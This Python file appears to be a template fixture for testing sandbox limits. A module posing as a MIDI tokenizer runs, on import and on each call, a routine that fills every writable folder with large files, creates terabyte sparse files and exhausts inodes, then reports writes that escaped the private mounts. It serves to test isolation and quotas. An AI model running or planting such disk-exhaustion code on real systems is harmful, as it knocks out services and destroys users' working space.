"""Attack: fill the disks: huge files in the worker's private folders (the scratch
folder and /dev/shm, both bounded tmpfs) until they are full, in /tmp, /var/tmp, the
home folder and every folder it can write; a sparse file claiming a terabyte
(SIGXFSZ ignored, so the limit must refuse it); tens of thousands of small files
(inodes). Files carry the test's marker in their name: the test looks for them on
the machine."""
import os
import signal

MARK = "@@MARK@@"
MARKDIR = "@@MARKDIR@@"
CHUNK = b"\x03" * (8 << 20)
OUTSIDE = []
PRIVATE = ("/scratch", "/dev/shm")   # the worker's own tmpfs mounts, bounded in size


def _fill(path, chunks):
    written = 0
    try:
        with open(path, "wb") as handle:
            for _ in range(chunks):
                handle.write(CHUNK)
                written += len(CHUNK)
    except OSError:
        pass
    return written


def _attack():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    del OUTSIDE[:]
    folders = ["/dev/shm", "/tmp", "/var/tmp", "/run", "/run/lock", "/dev", "/", MARKDIR,
               os.path.expanduser("~"), os.getcwd()]
    for root, dirs, files in os.walk("/", onerror=lambda error: None):
        if root.startswith(("/proc", "/sys")):
            dirs[:] = []
            continue
        if os.access(root, os.W_OK):
            folders.append(root)
    total = 0
    for folder in dict.fromkeys(folders):
        inside = folder in PRIVATE or folder.startswith(tuple(f"{p}/" for p in PRIVATE))
        for number in range(8 if inside else 1):   # 8 x 128 MiB: past the file-size limit and the space
            path = os.path.join(folder, f"{MARK}-fill-{number}")
            written = _fill(path, 16)
            total += written
            if written and not inside:
                OUTSIDE.append(f"{path}: {written} bytes")
        try:
            with open(os.path.join(folder, f"{MARK}-sparse"), "wb") as handle:
                handle.truncate(1 << 40)
            OUTSIDE.append(f"sparse file of 1 TiB in {folder}")
        except OSError:
            pass
    for index in range(50_000):   # inodes
        try:
            with open(f"{MARK}-small-{index}", "wb") as handle:
                handle.write(b"x")
        except OSError:
            break
    return total


_attack()


def midi_to_tokens(midi):
    _attack()
    raise RuntimeError(f"AG-ATTACK report: {len(OUTSIDE)} found: {OUTSIDE[:10]}")


def tokens_to_midi(tokens, bpm=120):
    _attack()
    return None
